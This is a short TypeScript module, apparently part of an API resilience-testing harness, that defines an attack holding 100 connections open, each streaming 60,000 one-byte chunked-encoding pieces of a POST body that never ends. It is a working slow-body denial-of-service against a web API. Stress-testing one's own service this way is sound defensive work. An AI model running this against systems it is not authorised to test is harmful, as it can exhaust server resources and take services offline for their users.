import type { Attack } from './attack.ts';
import { withSockets, write } from './open-sockets.ts';
import { bearer, request } from './requests.ts';

const connections = 100;
const chunks = '1\r\n1\r\n'.repeat(60_000);

/** Sends 100 bodies at once, each in 60,000 chunks of one byte, without an end. */
export const sendTinyChunks: Attack = (target) =>
  withSockets(target, async ({ open, untilOver }) => {
    const head = request('POST /v1/pets', [
      bearer(target.apiKey),
      'Content-Type: application/json',
      'Transfer-Encoding: chunked',
    ]);
    await Promise.all(Array.from({ length: connections }, async () => write(await open(), head + chunks)));
    await untilOver();
  });
